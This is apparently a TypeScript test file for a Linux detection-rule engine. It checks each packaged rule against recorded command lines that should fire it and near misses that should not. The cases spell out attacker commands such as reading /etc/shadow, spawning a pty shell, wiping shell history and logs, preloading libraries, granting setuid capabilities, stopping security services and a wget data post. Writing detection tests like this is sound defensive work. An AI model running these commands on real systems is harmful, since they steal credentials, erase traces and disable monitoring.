import { join } from 'node:path';
import test from 'ava';
import { type Alert, replay } from '../../src/agent/index.ts';
import { linesOf } from '../../src/cli/inputs.ts';
import { loadRules } from '../../src/lang/index.ts';
import { ROOT, recording } from '../events/recording.ts';

/** Each packaged rule with command lines of recorded processes: some that fire it, and near misses that must not. */
const CASES: readonly {
  readonly rule: string;
  readonly fires: readonly string[];
  readonly spares: readonly string[];
}[] = [
  {
    rule: 'Kernel module removed by hand',
    fires: ['rmmod nosuchmodule', 'modprobe --remove nosuchmodule', '/tmp/rmmod nosuchmodule'],
    spares: ['lsmod', '/bin/echo rmmod modprobe -r', 'modprobe -n nosuchmodule'],
  },
  {
    rule: 'Password hashes read with a file viewer',
    fires: ['cat /etc/shadow'],
    spares: ['cat /etc/passwd', 'sudo cat /etc/shadow'],
  },
  { rule: 'Decoded text piped into an interpreter', fires: ['bash', 'sh'], spares: ['base64', 'base64 -d'] },
  {
    rule: 'Shell started by a tool that should not need one',
    fires: ['sh -c /bin/sh &'],
    spares: ['/bin/sh -c gzip', 'awk BEGIN {system("/bin/sh &")}'],
  },
  {
    rule: 'Interpreter spawns a terminal',
    fires: ["/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')"],
    spares: ['/usr/bin/python3 -c import py_compile; py_compile.compile("T1059.006.py", "T1059.006.pyc")'],
  },
  {
    rule: 'Shell history cleared',
    fires: [
      'rm /root/.bash_history',
      'ln -sf /dev/null /root/.bash_history',
      'truncate -s0 /root/.bash_history',
    ],
    spares: ['cat /root/.bash_history'],
  },
  {
    rule: 'System log removed or overwritten',
    fires: ['rm -rf /var/log/messages'],
    spares: ['tail /var/log/syslog', 'ls -l /var/log/syslog'],
  },
  {
    rule: 'Cron table loaded from a temporary folder',
    fires: ['crontab /tmp/persistevil'],
    spares: ['crontab -l'],
  },
  {
    rule: 'Dynamic linker told to preload a library everywhere',
    fires: ['tee -a /etc/ld.so.preload', 'sh -c echo /tmp/T1574006.so > /etc/ld.so.preload'],
    spares: ['tee /etc/rc.common', 'sudo sh -c echo /tmp/T1574006.so > /etc/ld.so.preload'],
  },
  { rule: 'Daemon run from a temporary folder', fires: ['/tmp/crond'], spares: ['cp /bin/sh /tmp/crond'] },
  {
    rule: 'Capability to change user granted to a file',
    fires: ['setcap cap_setuid=ep /tmp/cap'],
    spares: ['sudo setcap cap_setuid=ep /tmp/cap'],
  },
  {
    rule: 'Logging or security service stopped',
    fires: ['systemctl stop rsyslog', 'systemctl disable falcon-sensor.service'],
    spares: ['systemctl stop cron', 'sudo systemctl stop systemd-journald'],
  },
  {
    rule: 'File times set by hand',
    fires: ['touch -a -t 197001010000.00 /tmp/T1070.006-access.txt'],
    spares: ['touch /etc/rc.common'],
  },
  {
    rule: 'Local file sent away with wget',
    fires: [
      'wget --post-data=msg=AtomicTestT1048.002 --timeout=5 --no-check-certificate https://example.com/ --delete-after',
    ],
    spares: [
      'wget --quiet -O - https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1059.004/src/echo-art-fish.sh',
    ],
  },
];

const RECORDINGS = ['seed', 'attack', 'everyday'] as const;
const { rules, problems } = await loadRules([join(ROOT, 'packs', 'rules')]);

async function alertsOf(name: (typeof RECORDINGS)[number]): Promise<readonly Alert[]> {
  const alerts: Alert[] = [];
  await replay(linesOf([join(ROOT, 'test', 'events', `${name}.results.log.gz`)]), {
    rules,
    platform: 'linux',
    onAlert: (alert) => alerts.push(alert),
  });
  return alerts;
}

const alerts = await Promise.all(RECORDINGS.map(alertsOf));
const recorded = new Set(
  RECORDINGS.flatMap((name) => recording(name).map(({ columns }) => columns['cmdline'])),
);

test('the packaged rules load without a remark', (t) => {
  t.deepEqual(
    problems.map(({ error }) => error.render()),
    [],
  );
  t.deepEqual(
    rules.flatMap(({ remarks }) => remarks),
    [],
  );
});

test('every packaged rule has its cases', (t) => {
  t.deepEqual(rules.map(({ name }) => name).sort(), CASES.map(({ rule }) => rule).sort());
});

for (const { rule, fires, spares } of CASES) {
  test(`"${rule}" fires on what it means, and spares what is near to it`, (t) => {
    const fired = new Set(
      alerts
        .flat()
        .filter(({ ruleName }) => ruleName === rule)
        .map(({ event }) => event.column('cmdline') ?? ''),
    );
    for (const command of fires) t.true(fired.has(command), command);
    for (const command of spares) {
      t.true(recorded.has(command), `not recorded: ${command}`);
      t.false(fired.has(command), command);
    }
  });
}

test('everyday work fires none of them', (t) => {
  t.deepEqual(
    alerts[2]!.map(({ ruleName, matched }) => `${ruleName}: ${matched}`),
    [],
  );
});
